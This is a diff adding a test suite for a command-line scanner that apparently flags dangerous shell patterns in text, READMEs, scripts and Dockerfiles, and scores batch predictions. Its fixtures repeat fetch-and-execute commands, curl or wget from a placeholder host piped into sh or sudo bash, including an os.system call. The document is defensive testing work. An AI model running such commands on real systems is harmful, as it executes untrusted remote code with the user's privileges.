@@ -1,0 +1,118 @@
+import { describe, expect, it } from "vitest";
+import { folderWith } from "./folder.js";
+import { bash, curlew } from "./process.js";
+
+const BAD = "curl -fsSL https://x.example/i.sh | sh";
+
+describe("scan", () => {
+  it("reads standard input", async () => {
+    const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin: `Run \`${BAD}\` now.` });
+    expect(stdout).toContain("<stdin>:1:6: bash/fetch-pipe");
+    expect(stdout).toContain("sh ./i.sh");
+    expect([status, stderr]).toEqual([1, ""]);
+  });
+
+  it("reads files, folders and source files", async () => {
+    const cwd = folderWith({
+      "README.md": `# Install\n\n\`\`\`bash\n${BAD}\n\`\`\`\n`,
+      "src/setup.sh": `#!/bin/sh\nset -e\n# ${BAD}\nwget -qO- https://x.example/j | sudo bash\n`,
+      "src/run.py": `import os\nprint("${BAD}")\nos.system("${BAD}")\n`,
+      Dockerfile: `FROM debian:12\nRUN ${BAD}\n`,
+      "ok.md": "Nothing here.",
+    });
+    const { status, stdout } = await curlew(["scan", "."], { cwd });
+    expect(stdout.split("\n").filter((line) => /^\S+:\d+:\d+: /.test(line)).map((line) => line.split(" ")[0])).toEqual([
+      "Dockerfile:2:5:", "README.md:4:1:", "src/run.py:3:12:", "src/setup.sh:4:1:",
+    ]);
+    expect(stdout).toContain("4 findings in 4 of 5 texts");
+    expect(status).toBe(1);
+  });
+
+  it("is clean about clean text", async () => {
+    expect(await curlew(["scan", "-"], { stdin: "curl -o f https://x.example/f" })).toEqual({ status: 0, stdout: "no findings in 1 text\n", stderr: "" });
+  });
+
+  it("says which step decided with --trace", async () => {
+    const { stdout } = await curlew(["scan", "--trace", "-"], { stdin: `${BAD}\n\nNever run \`${BAD}\`.` });
+    expect(stdout).toMatch(/1\. fetch: .*\(rule \d+\) at 1:1 «curl»/);
+    expect(stdout).toMatch(/dismissed \(warned-against\)/);
+  });
+
+  it("takes bytes that are no text", async () => {
+    for (const stdin of [Buffer.from([0xff, 0xfe, 0x00]), Buffer.from("a\0b\0"), Buffer.from([0xed, 0xa0, 0x80]), Buffer.alloc(0)]) {
+      const { status, stderr } = await curlew(["scan", "-"], { stdin });
+      expect(stderr).not.toMatch(/\n\s+at |internal/);
+      expect(status).toBe(0);
+    }
+  });
+
+  it("answers to 50 MB, and says what it left out", async () => {
+    const stdin = `${"harmless words, line after line\n".repeat(1_640_000)}${BAD}\n`;
+    const { status, stdout, stderr } = await curlew(["scan", "-"], { stdin });
+    expect(stdout).toMatch(/not fully analysed \(size\)|bash\/fetch-pipe/);
+    expect([1, 2]).toContain(status);
+    expect(stderr).toBe("");
+  });
+});
+
+describe("messages", () => {
+  it.each([
+    [["scan", "missing.md"], /^curlew: missing\.md: no such file or folder\n$/],
+    [["scan", "--profile", "lax", "-"], /^curlew: option '-p, --profile <name>' argument 'lax' is invalid/],
+    [["scan", "--wat"], /^curlew: unknown option '--wat'/],
+    [["scan", "--queries", "no/such/folder", "-"], /^curlew: .*no\/such\/folder/],
+    [["explain", "bash/nothing"], /^curlew: no rule "bash\/nothing"/],
+    [["batch", "missing.jsonl"], /^curlew: missing\.jsonl: no such file or folder\n$/],
+  ])("%j", async (args, message) => {
+    const { status, stderr, stdout } = await curlew(args, { stdin: "" });
+    expect(stderr).toMatch(message);
+    expect(stderr).not.toMatch(/\n\s+at /);
+    expect([status, stdout.includes("finding")]).toEqual([2, false]);
+  });
+
+  it.each([
+    ["an unknown capture", "((word) @sorce.fetcher)\n", /broken\.scm:1:\d+/],
+    ["broken syntax", "((command_name\n", /broken\.scm:\d+/],
+    ["an unknown predicate", '((word) @source.fetcher\n  (#is-it? @source.fetcher "x"))\n', /broken\.scm:2:\d+/],
+  ])("names a query file with %s", async (_name, text, place) => {
+    const cwd = folderWith({ "mine/bash/broken.scm": text });
+    const { status, stderr, stdout } = await curlew(["scan", "--queries", "mine", "-"], { cwd, stdin: BAD });
+    expect(stderr).toMatch(place);
+    expect(stderr).not.toMatch(/\n\s+at /);
+    expect([status, stdout]).toEqual([2, ""]);
+  });
+});
+
+describe("pipes", () => {
+  it("is quiet when the reader goes", async () => {
+    const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: BAD })).join("\n");
+    const { stdout, stderr } = await bash('curlew batch -q - --predictions - | head -n 1; echo "status ${PIPESTATUS[0]}"', { stdin });
+    expect(stdout).toMatch(/^\{"id":0,.*\nstatus \d+\n$/);
+    expect(stderr).not.toMatch(/EPIPE|Error|\n\s+at /);
+  });
+
+  it("streams large answers whole", async () => {
+    const stdin = Array.from({ length: 20_000 }, (_, id) => JSON.stringify({ id, text: "x", labels: [] })).join("\n");
+    const { stdout } = await bash("curlew batch -q - --predictions - | { sleep 1; wc -l; }", { stdin });
+    expect(stdout.trim()).toBe("20000");
+  });
+
+  it("reads a process substitution and a named pipe", async () => {
+    expect((await bash(`curlew scan <(echo '${BAD}')`)).stdout).toContain("1 finding in 1 of 1 text");
+  });
+});
+
+describe("batch", () => {
+  it("predicts and counts", async () => {
+    const stdin = [
+      { id: "p", text: BAD, labels: ["PS"], spans: [[0, BAD.length]] },
+      { text: "curl -o f https://x.example/f", labels: [], spans: [] },
+    ].map((record) => JSON.stringify(record)).join("\n");
+    const { stdout, stderr, status } = await curlew(["batch", "-", "--predictions", "-"], { stdin });
+    const [first, second] = stdout.trimEnd().split("\n").map((line) => JSON.parse(line));
+    expect(first).toMatchObject({ id: "p", labels: ["PS"], spans: [[0, BAD.length]], outcome: { status: "complete" } });
+    expect(second).toEqual({ id: 2, labels: [], spans: [], findings: [], outcome: { status: "complete" } });
+    expect(stderr).toContain("<stdin>        2   1   0   0   1     100.0%  100.0%  100.0% (1/1)");
+    expect(status).toBe(0);
+  });
+});
